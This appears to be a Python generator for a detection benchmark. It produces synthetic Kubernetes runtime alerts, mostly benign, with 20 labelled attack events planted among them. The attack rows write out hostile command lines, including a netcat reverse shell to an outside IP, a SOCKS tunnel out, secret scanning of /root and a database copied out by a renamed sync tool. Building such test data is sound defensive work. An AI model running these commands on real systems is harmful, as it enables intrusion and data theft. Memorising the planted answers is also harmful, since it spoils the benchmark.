"""`python -m bench.ranking_estate_2 > FILE`: a second planted estate for `python -m bench.ranking FILE`.

It was made by someone who had not seen the weights, nor the first estate, and frozen before the ranking first saw it:
it showed 8 of 20 attacks. The points are tuned on it since (docs/priority.md). Don't change it to suit them.

A story is roles, lines, kind, content, uid, who wrote the file, who ran it, options; then the path and its arguments
(after `=` the whole argv). Content: `u` each time another, `w` one a workload, `v` one of a few versions, `g` none.
`^` is the container's first process. A value in braces is random, and the same all over a line.
"""

from __future__ import annotations

import json
import random
import re
import shlex
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from hashlib import sha256
from typing import Any

Line = dict[str, Any]

NOISE = 2_000
HISTORY = 160
LONGEST = 20_000
BLOCKING = ("prod-eu-1", "prod-us-1", "tools-eu-1", "ci-eu-1")
REASONS = ("cold", "kind_not_named", "hash_decides", "not_held", "timeout")

# role | owner's kind | image | first process | uid | namespace | names | clusters
ROLES = """
php|Deployment|docker.io/library/php:8.3-fpm|php-fpm|33|shop|storefront cms returns loyalty blog|prod-eu-1 prod-us-1 stage-eu-1
node|Deployment|docker.io/library/node:22-alpine|node|1001|web|checkout-ui portal bff mailer render|prod-eu-1 prod-us-1 stage-eu-1
java|Deployment|registry.corp.example/java/base:21|java|1000|pay|ledger orders pricing risk invoices search-api|prod-eu-1 prod-us-1 stage-eu-1
wiki|StatefulSet|docker.io/atlassian/confluence:8.5|java|2002|collab|confluence|tools-eu-1
python|Deployment|docker.io/library/python:3.12-slim|gunicorn|1000|api|catalog geo recommend notify reports|prod-eu-1 prod-ap-1 stage-eu-1
ruby|Deployment|docker.io/library/ruby:3.3|puma|1000|support|helpdesk crm|prod-eu-1 stage-eu-1
go|Deployment|registry.corp.example/go/gateway:4.2|gateway|65532|edge|gateway auth quota limits|prod-eu-1 prod-us-1 prod-ap-1
nginx|Deployment|docker.io/library/nginx:1.27|nginx|0|edge|static assets www|prod-eu-1 prod-us-1 prod-ap-1
postgres|StatefulSet|docker.io/library/postgres:16|postgres|999|db|orders-db ledger-db metabase-db|prod-eu-1 prod-us-1 stage-eu-1
redis|StatefulSet|docker.io/bitnami/redis:7.2|redis-server|1001|db|cart-cache session-cache queue|prod-eu-1 prod-us-1 stage-eu-1
mysql|StatefulSet|docker.io/library/mysql:8.4|mysqld|999|db|cms-db crm-db|prod-eu-1 stage-eu-1
elastic|StatefulSet|docker.elastic.co/elasticsearch/elasticsearch:8.15.0|java|1000|logging|es-data es-master|prod-eu-1 tools-eu-1
kafka|StatefulSet|docker.io/confluentinc/cp-kafka:7.6.0|java|1000|stream|kafka connect|prod-eu-1 data-eu-1
ci|Pod|docker.io/library/debian:12|gitlab-runner-build|0|gitlab-ci|runner-shop runner-pay runner-data runner-mobile|ci-eu-1 dev-eu-1
actions|Deployment|ghcr.io/actions/actions-runner:2.319.1|Runner.Listener|1001|arc-runners|web-runners infra-runners|ci-eu-1
dind|Pod|docker.io/library/docker:27-dind|dockerd|0|gitlab-ci|image-build buildkit|ci-eu-1 dev-eu-1
jenkins|StatefulSet|docker.io/jenkins/jenkins:2.462-lts|java|1000|jenkins|jenkins|ci-eu-1 tools-eu-1
gitlab|StatefulSet|docker.io/gitlab/gitlab-ce:17.3.1-ce.0|runsvdir|0|gitlab|gitlab|tools-eu-1
notebook|Pod|quay.io/jupyter/scipy-notebook:2024-10-07|tini|1000|jupyter|jupyter-anna jupyter-bo jupyter-chen jupyter-dana|data-eu-1
ray|Deployment|docker.io/rayproject/ray:2.34.0-gpu|raylet|1000|ml|ray-worker ray-head trainer|data-eu-1 prod-us-1
spark|Job|docker.io/apache/spark:3.5.2|java|185|etl|daily-sales clickstream churn|data-eu-1
airflow|StatefulSet|docker.io/apache/airflow:2.10.0|airflow|50000|etl|airflow-worker|data-eu-1 tools-eu-1
cron|CronJob|docker.io/library/alpine:3.20|sh|0|ops|pg-dump cert-check cleanup s3-sync dns-report|prod-eu-1 prod-us-1 tools-eu-1
job|Job|registry.corp.example/ops/migrate:9|sh|0|pay|migrate seed reindex|prod-eu-1 stage-eu-1
agent|DaemonSet|registry.corp.example/observe/agent:7.56|agent|0|monitoring|metrics-agent log-shipper inventory|prod-eu-1 prod-us-1 data-eu-1
system|DaemonSet|registry.k8s.io/sig-storage/csi-driver:1.9|csi-driver|0|kube-system|csi-node node-local-dns|prod-eu-1 prod-us-1 prod-ap-1 data-eu-1
terraform|StatefulSet|ghcr.io/runatlantis/atlantis:v0.29.0|atlantis|100|infra|atlantis|tools-eu-1
admin|Deployment|docker.io/library/ubuntu:24.04|sleep|0|ops|toolbox bastion|prod-eu-1 tools-eu-1 dev-eu-1
dev|Deployment|registry.corp.example/dev/workspace:12|sshd|1000|dev|ws-lee ws-maria ws-otto ws-pia|dev-eu-1
sftp|Deployment|docker.io/atmoz/sftp:debian|sshd|0|partners|sftp-partners sftp-banks|prod-eu-1
"""  # noqa: E501

STORIES = """
ci,actions 60 new_file v 0 npm<sh@40 node<npm<sh<^|/builds/{team}/{repo}/node_modules/@esbuild/linux-x64/bin/esbuild --service=0.2{d}.{d} --ping
ci 70 new_file u 0 go<sh@1 go<make<sh<^|/tmp/go-build{n9}/b{n3}/{repo}.test -test.paniconexit0 -test.timeout=10m0s
ci 40 new_file u 0 ld<collect2@2 cargo<sh<^|/builds/{team}/{repo}/target/debug/build/{serde,proc-macro2,libc,ring,anyhow,rustix}-{h16}/build-script-build
ci,dev 50 new_file u 0 ld<collect2@1 sh<configure<make<sh|/builds/{team}/{repo}/{curl,openssl,libxml2,zlib,pcre2}-{v}/conftest
ci,dev 25 new_file u 0 ld<collect2@1 cmake<sh<^|/builds/{team}/{repo}/build/CMakeFiles/CMakeScratch/TryCompile-{r6}/cmTC_{h5}
ci,dind,admin 70 script v 0 dpkg<apt-get@3 dpkg<apt-get<sh<^ via=/bin/sh burst|/var/lib/dpkg/info/{pkg}.postinst configure {v}
ci 45 new_file v 0 dpkg<apt-get@25 sh<^ burst|/usr/bin/{pkg} --version
ci 40 new_file v 0 pip<sh@60 bash<^|/builds/{team}/{repo}/.venv/bin/ruff check .
ci 30 script u 0 git<sh@20 bash<^ via=/bin/bash|/builds/{team}/{repo}/scripts/{verb}.sh
actions 60 script u 1001 Runner.Worker<Runner.Listener@1 Runner.Worker<^ via=/usr/bin/bash|/home/runner/_work/_temp/{uuid}.sh
actions 30 new_file v 1001 node<Runner.Worker@30 bash<Runner.Worker<^|/opt/hostedtoolcache/go/1.2{d}.{d}/x64/bin/go build ./...
actions,ci 20 new_file v * curl<bash@2 bash<^|/tmp/{cli} version
ci 25 new_file v 0 java<gradle@15 java<sh<^|/tmp/embedded-pg/PG-{h32}/bin/postgres -D /tmp/pg{n6} -p {n5} -F
ci 20 new_file v 0 node<npm@35 node<npm<sh<^|/root/.cache/puppeteer/chrome/linux-12{d}.0.{n4}.{n2}/chrome-linux64/chrome --headless --no-sandbox --remote-debugging-port=0
ci 20 library u 0 java<gradle@1 gradle<sh<^ via=/usr/lib/jvm/java-21/bin/java|/root/.gradle/native/{h32}/linux-amd64/libnative-platform.so = java -Xmx2g org.gradle.launcher.daemon.bootstrap.GradleDaemon 8.{d}
dind 50 fileless v 0 - containerd-shim-runc-v2<containerd<dockerd|/memfd:runc_cloned:/proc/self/exe = runc init
dind 50 foreign_mount v 0 - runc<containerd-shim<containerd<dockerd|/var/lib/docker/overlay2/{h64}/merged/bin/sh -c 'apk add --no-cache {pkg}'
dind 30 foreign_mount u 0 - buildkit-runc<buildkitd|/var/lib/buildkit/runc-overlayfs/executor/{r25}/rootfs/usr/bin/{pkg}
java,kafka 70 library u * java<-@1 - via=/opt/java/openjdk/bin/java|/tmp/libnetty_tcnative_linux_x86_64{n16}.so = java -jar /app/app.jar
java,kafka,spark 60 library v * java<-@1 - via=/opt/java/openjdk/bin/java|/tmp/snappy-1.1.10-{uuid}-libsnappyjava.so = java -cp /app/* Main
java,elastic,jenkins 40 library v * java<-@1 - via=/opt/java/openjdk/bin/java|/tmp/jna-{n9}/jna{n16}.tmp = java -jar /app/app.jar
java 12 library v * tar<bash@60 java via=/opt/java/openjdk/bin/java burst|/tmp/async-profiler-3.0-linux-x64/lib/libasyncProfiler.so = java -jar /app/app.jar
java,wiki,elastic 14 new_file v 0 curl<bash@{n2} bash new|/tmp/jattach 1 threaddump
jenkins 25 volume v 1000 java<-@200 sh<java|/var/jenkins_home/tools/hudson.model.JDK/jdk-{v}/bin/java -version
jenkins 30 script u 1000 java<-@1 java via=/bin/sh|/var/jenkins_home/workspace/{repo}@tmp/durable-{h8}/script.sh.copy
php 45 new_file v 33 php-fpm<-@{n5} sh<php-fpm<^|/var/www/html/wp-content/plugins/ewww-image-optimizer/binaries/{cwebp,pngquant,jpegtran,optipng,gifsicle}-linux -q 82 /var/www/html/wp-content/uploads/2026/1{d}/{word}.png
php 20 volume v 33 - sh<php-fpm<^|/var/www/html/vendor/h4cc/wkhtmltopdf-amd64/bin/wkhtmltopdf-amd64 --quiet - -
php 20 script v 0 curl<sh@4 bash via=/usr/local/bin/php burst|/usr/local/bin/{composer,wp,drush,deployer} install --no-dev
php 15 script u 33 php<php-fpm@2 sh<php-fpm<^ via=/bin/sh|/var/www/html/var/cache/{word}/{h12}.sh
node 45 library v 1001 npm<sh@300 - via=/usr/local/bin/node|/app/node_modules/@img/sharp-linuxmusl-x64/lib/sharp-{v}.node = node server.js
node 35 new_file v 1001 node<npm@20 node<npm<sh<^|/app/node_modules/@prisma/engines/schema-engine-linux-musl migrate deploy
node 15 new_file v 1001 node<npm@30 node<^|/app/.cache/puppeteer/chrome-headless-shell/linux-12{d}.0.{n4}.0/chrome-headless-shell --headless --no-sandbox
node 10 replaced v 0 npm<sh@3 sh<^|/usr/local/bin/yarn --frozen-lockfile
python,ray,notebook 50 library v * pip<sh@120 - via=/usr/local/bin/python3.12|/usr/local/lib/python3.12/site-packages/{numpy,orjson,pandas,uvloop,lxml,cryptography}/_{numpy,orjson,pandas,uvloop,lxml,cryptography}.cpython-312-x86_64-linux-gnu.so = python3 -m app
python,ray 40 library u * g++<python3@1 python3 via=/usr/local/bin/python3.12|/tmp/torchinductor_{user}/{r2}/c{r40}.so = python3 train.py
python 20 interpreter w 1000 - sh<^ via=/usr/local/bin/python3|/etc/app-scripts/{verb}.py --once
python 12 new_file v 0 pip<bash@{n2} bash burst|/usr/local/bin/py-spy dump --pid 1
notebook 40 new_file v 1000 mamba<bash@90 bash<python3<jupyter-lab<^|/opt/conda/envs/{word}/bin/{cli}
notebook 40 script u 1000 pip<python3@20 sh<python3<jupyter-lab<^ via=/opt/conda/bin/python|/home/jovyan/.local/bin/{pytool}
notebook 25 new_file v 1000 wget<bash@{n2} bash<jupyter-lab<^|/home/jovyan/work/{word}/{blastn,samtools,minimap2,duckdb,vw} -i data/{word}.fa -t 8
notebook 20 copy_of_image_file v 1000 python3<bash@15 bash<jupyter-lab<^|/home/jovyan/{word}/venv/bin/python -m pip install -U pip
notebook 15 new_file u 1000 ld<collect2@4 bash<jupyter-lab<^|/home/jovyan/work/{word}/a.out
ray 45 script u 1000 python3<raylet@6 python3<raylet<^ via=/home/ray/anaconda3/bin/python|/tmp/ray/session_latest/runtime_resources/working_dir_files/_ray_pkg_{h16}/{verb}.py --epochs {n2}
ray 30 new_file v 1000 pip<python3@60 python3<raylet<^|/tmp/ray/session_latest/runtime_resources/pip/{h40}/virtualenv/bin/{pytool}
spark 40 script u 185 java<-@5 java via=/bin/bash|/var/data/spark-{uuid}/executor-{n2}/{verb}.sh
airflow 50 script u 50000 python3<airflow@1 airflow<^ via=/bin/bash|/tmp/airflowtmp{r8}/{verb}.sh
airflow 20 new_file v 50000 unzip<bash@30 bash<airflow<^|/tmp/aws/dist/aws s3 sync s3://corp-{word}/ /data/{word}
postgres 30 script w 999 - sh<postgres via=/bin/bash|/scripts/{verb}_wal.sh pg_wal/0000000100000{h11} 0000000100000{h11}
postgres 25 script w 999 - docker-entrypoint.sh via=/bin/bash|/docker-entrypoint-initdb.d/{n2}-{word}.sh
postgres,mysql 14 new_file v 0 dpkg<apt-get@{n2} bash burst|/usr/bin/{pkg}
postgres 12 library v 999 dpkg<apt-get@900 postgres via=/usr/lib/postgresql/16/bin/postgres|/usr/lib/postgresql/16/lib/{timescaledb,pg_cron,pgaudit,postgis-3}.so = 'postgres: background worker'
redis 60 script w 1001 - sh via=/bin/bash|/health/{ping_liveness_local,ping_readiness_local,ping_liveness_master,parse_sentinels}_{n1}.sh 5
redis 12 library v 1001 - redis-server via=/opt/bitnami/redis/bin/redis-server|/opt/modules/{redisearch,rejson,redisbloom,redistimeseries}.so = redis-server 0.0.0.0:6379
gitlab 25 replaced v 0 dpkg<apt-get@400 runsv<runsvdir burst|/opt/gitlab/embedded/bin/{pkg}
gitlab 20 script w 0 ruby<chef-client@60 runsv<runsvdir via=/bin/sh|/opt/gitlab/sv/{word}/run
gitlab 15 script u 998 git<gitaly@{n5} git<gitaly<runsv via=/bin/sh|/var/opt/gitlab/git-data/repositories/@hashed/{h2}/{h40}.git/custom_hooks/pre-receive
cron 70 new_file v 0 apk<sh@2 sh<^|/usr/bin/{pkg} -h
cron 40 new_file v 0 curl<sh@1 sh<^|/tmp/kubectl get pods -A -o json
cron,job 40 script w 0 - sh via=/bin/sh|/scripts/{verb}.sh
cron 20 new_file v 0 wget<sh@3 sh<^|/usr/local/bin/rclone sync /backup s3:corp-backup/{word}
cron 15 script u 0 sh<-@1 sh<^ via=/bin/sh|/tmp/tmp.{r6} --all
job 15 script v 0 git<sh@5 sh<^ via=/bin/sh|/work/{repo}/db/{verb}.sh --env {word}
agent 40 replaced v 0 agent<-@20 agent|/opt/agent/bin/{agentbin} run --config /etc/agent/agent.yaml
agent 30 new_file v 0 agent<-@15 agent new|/opt/agent/update/{v}/{agentbin} --check
java,node,python,php,go 60 library v * - - via=/usr/local/bin/app|/opt/dynatrace/oneagent/agent/lib64/liboneagentproc.so = /usr/local/bin/app
java,node,python 30 copy_of_image_file v 0 cp<sh@4 -|/otel-auto-instrumentation-{word}/{agentbin}
go,nginx 25 script w * - nginx via=/bin/sh|/docker-entrypoint.d/{n2}-{verb}.sh
terraform 50 volume v 100 terraform<atlantis@12 terraform<sh<^|/atlantis-data/repos/corp/{repo}/{n3}/default/.terraform/providers/registry.terraform.io/hashicorp/{aws,azurerm,google,kubernetes,vault,random}/5.{n2}.0/linux_amd64/terraform-provider-{aws,azurerm,google,kubernetes,vault,random}
admin,python,java,go 45 new_file v 0 curl<bash@{n2} bash burst|/tmp/{jattach,grpcurl,kubectl,k9s,nc,busybox,ncat,termshark,iperf3,dlv} -h
admin 40 new_file v 0 dpkg<apt-get@{n2} bash<sleep burst|/usr/bin/{pkg}
admin,dev 25 script u 0 vim<bash@{n2} bash via=/bin/bash burst|/root/{word}-{verb}.sh --dry-run
admin 14 new_file v 0 tar<-@{n2} bash new|/tmp/k6 run -u 200 -d 5m /tmp/{word}.js
admin 12 new_file v 0 curl<bash@{n2} bash<sleep|/usr/local/bin/trivy image registry.corp.example/{team}/{repo}
dev 50 new_file v 1000 tar<sh@9 sh<bash<sshd<^|/home/dev/.vscode-server/cli/servers/Stable-{h40}/server/node --version
dev 35 new_file u 1000 go<bash@1 bash<tmux<sshd|/home/dev/{repo}/bin/{verb}
dev 25 script u 1000 vim<bash@{n3} bash<sshd<^ via=/bin/bash|/home/dev/{repo}/{verb}.sh
dev 15 loader v 1000 patchelf<bash@30 bash<sshd via=/lib64/ld-linux-x86-64.so.2|/home/dev/.cache/bazel/_bazel_dev/{h32}/external/{word}/bin/{cli}
ruby 30 library v 1000 ld<make@20 - via=/usr/local/bin/ruby|/usr/local/bundle/gems/{nokogiri,bootsnap,bcrypt,ffi,sassc}-{v}/lib/{nokogiri,bootsnap,bcrypt,ffi,sassc}/{nokogiri,bootsnap,bcrypt,ffi,sassc}.so = 'puma 6.4.2 (tcp://0.0.0.0:3000)'
python,go 12 fileless g * - ^ new|/memfd:{word}-plugin --serve
admin,java 10 script v 0 tar<-@{n2} bash via=/bin/bash burst|/tmp/{check,dump,collect}-{word}.sh -a
mysql,postgres 10 new_file v 0 tar<bash@{n2} bash|/var/tmp/{xtrabackup,pgcopydb,mydumper} --target-dir /backup/{word}
node 10 new_file v 1001 wget<sh@2 sh<node|/tmp/{ffmpeg,pandoc,gs}-static -version
postgres 8 script w 999 - sh<postgres<postgres via=/bin/sh|/scripts/{word}_export.sh
gitlab 8 script w 0 - run-parts<crond<runsv via=/bin/sh|/etc/cron.daily/{logrotate,dpkg,man-db}
"""  # noqa: E501

WORDS: dict[str, str] = {
    "team": "shop pay data mobile infra edge",
    "repo": "cart ledger storefront search pricing app-ios gateway geo etl-core charts",
    "verb": "build deploy check rotate backup sync migrate lint report warmup prune archive",
    "pkg": "curl jq git tcpdump strace netcat htop vim rsync dig psql openssl unzip nmap less gdb socat",
    "cli": "helm kubectl kind yq cosign mc grpcurl buf golangci-lint protoc migrate crane",
    "pytool": "black streamlit mlflow dvc papermill jupytext tensorboard",
    "agentbin": "agent trace-agent process-agent fluent-bit osqueryd vector",
    "user": "root ray app anna",
    "word": "sales blue main weekly orders genome test alpha v2 exports core users",
}

# what it is | minutes ago | outcome | its story
ATTACKS = """
exposed PostgreSQL, COPY FROM PROGRAM drops a miner in the data directory|410|none|postgres 1 volume u 999 postgres<postgres@2 sh<postgres<postgres|/var/lib/postgresql/data/pg_core
notebook without a password: python runs a payload from memory|2900|none|notebook 1 fileless u 1000 - python3<jupyter-lab<tini|/memfd: = smd
plugin's upload hole: a backdoor among the shop's uploads|95|none|php 1 new_file u 33 php-fpm<-@41 sh<php-fpm<php-fpm|/var/www/html/wp-content/uploads/2026/11/thumb 185.196.8.41 443
sshd replaced by one that keeps passwords|7700|none|sftp 1 replaced u 0 cp<bash@14 entrypoint<tini|/usr/sbin/sshd -D -e
preloaded library that hides processes|3350|none|python 1 library u 0 sh<gunicorn@5 sh<gunicorn via=/bin/ls|/usr/local/lib/libdns_cache.so = ls /proc
Confluence OGNL injection: a downloaded bot|1210|none|wiki 1 new_file u 2002 curl<bash@1 bash<java<tini|/tmp/.ICE-unix/agettyd
Redis made a replica of a rogue master: its module loaded|5600|none|redis 1 library u 1001 redis-server<-@3 - via=/opt/bitnami/redis/bin/redis-server|/bitnami/redis/data/dump.so = redis-server 0.0.0.0:6379
web shell of an API: kubectl under another name asks for its rights|640|none|python 1 new_file v 1000 python3<sh@22 sh<gunicorn<gunicorn|/dev/shm/k auth can-i --list -n kube-system
privileged build pod mounts the node's disk and goes there|8800|none|dind 1 foreign_mount u 0 - chroot<sh<bash|/mnt/nvme/usr/bin/bash -c 'cat /root/.ssh/authorized_keys'
npm worm in a build: a secret scanner over the home directory|1850|none|ci 1 new_file v 0 node<node@6 node<node<npm<sh|/root/.truffler-cache/trufflehog filesystem /root --json
poisoned package of a nightly index sends files by DNS|4300|none|ray 1 new_file u 1000 pip<python3@900 python3<python3<raylet|/home/ray/anaconda3/lib/python3.11/site-packages/triton/runtime/triton
tunnel out, by the loader as the script is noexec|2050|not_blocked|node 1 loader u 1001 node<-@17 sh<node via=/lib/ld-musl-x86_64.so.1|/app/tmp/cache/idx client --keepalive 25s https://cdn-assets.example.net R:1080:socks
busybox of the image copied to pass for a worker, shell out|530|none|nginx 1 copy_of_image_file v 101 cp<sh@2 sh<nginx|/var/cache/nginx/nginx nc 45.9.148.108 8443 -e /bin/sh
GitLab image upload: an hourly script to come back|11400|none|gitlab 1 script u 0 sh<exiftool@2650 run-parts<crond<runsv via=/bin/sh|/etc/cron.hourly/0logclean
rogue DaemonSet by a stolen token|260|none|rogue 1 new_file u 0 wget<sh@4 sh|/usr/sbin/kube-secured
customer database copied out with a renamed sync tool|6900|none|mysql 1 new_file v 0 tar<bash@75 bash|/var/tmp/innochk copy /var/lib/mysql b2x:arc-0417 --transfers 16 --no-traverse
stolen kubeconfig: kubectl cp of a script that looks for ways up|1500|blocked|java 1 script u 0 tar<-@28 bash via=/bin/bash|/tmp/check.sh -a
Jenkins script console: an agent of a C2|3700|blocked|jenkins 1 volume u 1000 java<-@1 sh<java<tini|/var/jenkins_home/war/WEB-INF/jre
open Ray dashboard: a job mines on the GPUs|730|none|ray 1 new_file u 1000 python3<raylet@12 sh<python3<raylet|/tmp/ray/session_latest/runtime_resources/working_dir_files/_ray_pkg_6d1f09c2be77a413/worker --config /dev/shm/c.json
React server components: a stager|155|blocked|node 1 new_file u 1001 wget<sh@1 sh<node|/tmp/fghgf
"""  # noqa: E501

ROGUE = "rogue|DaemonSet|docker.io/kubernetesio/kube-controller:1.0.1|sh|0|kube-system|kube-controller|prod-ap-1"
SERVERS = {
    "php-fpm": "/usr/local/sbin/php-fpm",
    "node": "/usr/local/bin/node",
    "java": "/opt/java/openjdk/bin/java",
    "postgres": "/usr/lib/postgresql/16/bin/postgres",
    "redis-server": "/opt/bitnami/redis/bin/redis-server",
}
PATHS = {name: f"/bin/{name}" for name in ("sh", "bash", "tar", "cp", "ls", "busybox")} | SERVERS


@dataclass(frozen=True)
class Workload:
    """One owner in one cluster, with the pods that it has at most."""

    role: str
    kind: str
    image: str
    first: str
    uid: int
    namespace: str
    name: str
    cluster: str
    pods: list[Line] = field(default_factory=list, compare=False)

    def container(self, rng: random.Random) -> Line:
        """Return one of its containers; a job has another each time."""
        if len(self.pods) < 3 or self.kind in ("Job", "CronJob", "Pod"):
            self.pods.append(self._pod(rng))
            return self.pods[-1]
        return rng.choice(self.pods)

    def _pod(self, rng: random.Random) -> Line:
        ends, label = _letters(rng, 5), _hex(rng, 10)
        run = f"{self.name}-{rng.randrange(29_400_000, 29_420_000)}"
        pod, labels = {
            "Deployment": (f"{self.name}-{label}-{ends}", {"pod-template-hash": label}),
            "StatefulSet": (f"{self.name}-{len(self.pods)}", {"apps.kubernetes.io/pod-index": str(len(self.pods))}),
            "DaemonSet": (f"{self.name}-{ends}", {"controller-revision-hash": label}),
            "CronJob": (f"{run}-{ends}", {"job-name": run}),
            "Job": (f"{self.name}-{ends}", {"job-name": self.name}),
        }.get(self.kind, (f"{self.name}-{ends}", {}))
        names = {"name": self.name.split("-")[0], "runtime": "containerd", "image_name": self.image}
        owner = {"kind": self.kind, "name": self.name}
        place = {"namespace": self.namespace, "pod_name": pod, "pod_labels": labels, "owner": owner}
        return {"id": _hex(rng, 64), **names, **place}


@dataclass(frozen=True)
class Story:
    """One way in which an alert comes about."""

    roles: tuple[str, ...]
    count: int
    kind: str
    content: str
    uid: str
    writer: str
    lineage: str
    options: tuple[str, ...]
    command: str


def lines(seed: int = 20_261_129) -> Iterator[Line]:
    """Return the estate's lines, shuffled."""
    rng = random.Random(seed)
    workloads = [each for row in ROLES.strip().splitlines() for each in _workloads(row)]
    stories = [_story(*row.split("|")) for row in STORIES.strip().splitlines()]
    seen = set[tuple[str, ...]]()
    made = [line for each in stories for line in _told(rng, each, workloads, seen, each.count)]
    rng.shuffle(made)
    made = made[:NOISE]
    while len(made) < NOISE:
        made += _told(rng, rng.choice(stories), workloads, seen, 1)
    for _ in range(HISTORY):
        for line in _told(rng, rng.choice(stories), workloads, seen, 1):
            verdict = rng.choice(("expected", "expected", "expected", "false_positive", "benign_true_positive"))
            made.append(line | {"minutes_ago": rng.randrange(LONGEST // 2, LONGEST), "closed": verdict})
    made += [_attack(rng, row, [*workloads, *_workloads(ROGUE)]) for row in ATTACKS.strip().splitlines()]
    rng.shuffle(made)
    return iter(made)


def _workloads(row: str) -> list[Workload]:
    role, kind, image, first, uid, namespace, names, clusters = row.split("|")
    places = [(name, cluster) for name in names.split() for cluster in clusters.split()]
    return [Workload(role, kind, image, first, int(uid), namespace, *place) for place in places]


def _story(head: str, command: str) -> Story:
    roles, count, kind, content, uid, writer, lineage, *options = head.split()
    return Story(tuple(roles.split(",")), int(count), kind, content, uid, writer, lineage, tuple(options), command)


def _told(
    rng: random.Random, story: Story, workloads: list[Workload], seen: set[tuple[str, ...]], count: int
) -> list[Line]:
    """Tell the story `count` times, less where it can't be told so often; `seen` are the alerts there are."""
    fitting, told = [each for each in workloads if each.role in story.roles], list[Line]()
    at, place = 0, rng.choice(fitting)
    again = 0.7 if "burst" in story.options else 0.25
    for _ in range(count * 3):
        if not told or rng.random() > again:
            at, place = rng.randrange(3, 1_400 if "new" in story.options else LONGEST - 100), rng.choice(fitting)
        line = _line(rng, story, place, max(1, at - rng.randrange(12)))
        process = line["event"]["process"]
        key = (place.cluster, place.namespace, place.name, process["path"], str(process["sha256"]))
        if key not in seen:
            seen.add(key)
            told.append(line)
        if len(told) == count:
            break
    return told


def _attack(rng: random.Random, row: str, workloads: list[Workload]) -> Line:
    attack, minutes, outcome, head, command = row.split("|")
    story = _story(head, command)
    fitting = [each for each in workloads if each.role in story.roles and not each.cluster.startswith(("stage", "dev"))]
    line = _line(rng, story, rng.choice(fitting), int(minutes))
    line["event"] |= {"outcome": outcome, "outcome_reason": "cold" if outcome == "not_blocked" else ""}
    return {"attack": attack, **line}


def _line(rng: random.Random, story: Story, place: Workload, minutes: int) -> Line:
    fill = _filler(rng)
    path, *arguments = shlex.split(fill(story.command))
    via = next((each[4:] for each in story.options if each.startswith("via=")), None)
    argv = arguments[1:] if arguments[:1] == ["="] else [*([via] if via else []), path, *arguments]
    process: Line = {"name": path.rsplit("/", 1)[-1], "path": path, "argv": argv}
    process |= {"cwd": rng.choice(("/", "/", path.rsplit("/", 1)[0] or "/", "/tmp"))}
    process |= {"uid": place.uid if story.uid == "*" else int(story.uid), "pid": rng.randrange(2_000, 4_000_000)}
    process |= _content(rng, story, place) | ({"via": via} if via else {}) | _parents(rng, story, place)
    container = place.container(rng)
    event = {"kind": story.kind, **_outcome(rng, story, place), "process": process, "container": container}
    node = f"node-{int(container['id'][:2], 16) % 6 + 1}"
    line: Line = {"cluster": place.cluster, "node": node, "minutes_ago": minutes}
    return line | _written(fill(story.writer)) | {"event": event}


def _filler(rng: random.Random) -> Callable[[str], str]:
    """Return what fills in a line's random values."""
    known: dict[str, str] = {}

    def value(match: re.Match[str]) -> str:
        name = match[1]
        if name not in known:
            words = WORDS[name].split() if name in WORDS else name.split(",")
            known[name] = rng.choice(words) if name in WORDS or "," in name else _random(rng, name)
        return known[name]

    return lambda text: re.sub(r"\{([^{}]+)\}", value, text)


def _random(rng: random.Random, name: str) -> str:
    if name == "v":
        return f"{rng.randrange(1, 9)}.{rng.randrange(20)}.{rng.randrange(10)}"
    if name == "uuid":
        return "-".join(_hex(rng, size) for size in (8, 4, 4, 4, 12))
    size = int(name[1:] or 1)
    return (
        {"h": _hex, "r": _letters}[name[0]](rng, size)
        if name[0] in "hr"
        else str(rng.randrange(10 ** (size - 1), 10**size))
    )


def _content(rng: random.Random, story: Story, place: Workload) -> Line:
    which = {"u": _hex(rng, 32), "w": f"{place.namespace}/{place.name}", "v": str(int(rng.triangular(0, 6, 0)))}
    digest = sha256(f"{story.command} {which.get(story.content)}".encode()).hexdigest()
    programs = not any(each.startswith("via=") for each in story.options)
    scale = 6_000_000 if programs else 400_000 if story.kind == "library" else 1_500
    size = int(scale * random.Random(digest).lognormvariate(0, 0.8))
    known = story.content != "g" and rng.random() > 0.01
    return {"sha256": digest if known else None, "hash_status": "ok" if known else "gone", "size": size}


def _parents(rng: random.Random, story: Story, place: Workload) -> Line:
    if story.lineage == "-":
        return {"parent": None, "ancestors": []}
    names = [place.first if each == "^" else each for each in story.lineage.split("<")]
    pids = sorted((rng.randrange(900, 2_000_000) for _ in names), reverse=True)
    parent = {"name": names[0], "path": PATHS.get(names[0], f"/usr/bin/{names[0]}"), "pid": pids[0]}
    above = [{"name": name, "pid": pid} for name, pid in zip(names[1:], pids[1:], strict=True)]
    return {"parent": parent, "ancestors": above}


def _written(writer: str) -> Line:
    if writer == "-":
        return {}
    who, seconds = writer.split("@")
    by, parent = who.split("<")
    written: Line = {"by": by, "path": PATHS.get(by, f"/usr/bin/{by}"), "seconds_before": int(seconds)}
    return {"written": written | {"parent": None if parent == "-" else parent}}


def _outcome(rng: random.Random, story: Story, place: Workload) -> Line:
    if place.cluster not in BLOCKING or story.kind in ("library", "interpreter") or rng.random() > 0.15:
        return {"outcome": "none"}
    if rng.random() < 0.5:
        return {"outcome": "blocked"}
    return {"outcome": "not_blocked", "outcome_reason": rng.choice(REASONS)}


def _hex(rng: random.Random, size: int) -> str:
    return "".join(rng.choices("0123456789abcdef", k=size))


def _letters(rng: random.Random, size: int) -> str:
    return "".join(rng.choices("bcdfghjklmnpqrstvwxz2456789", k=size))


if __name__ == "__main__":
    print("\n".join(json.dumps(each) for each in lines()))
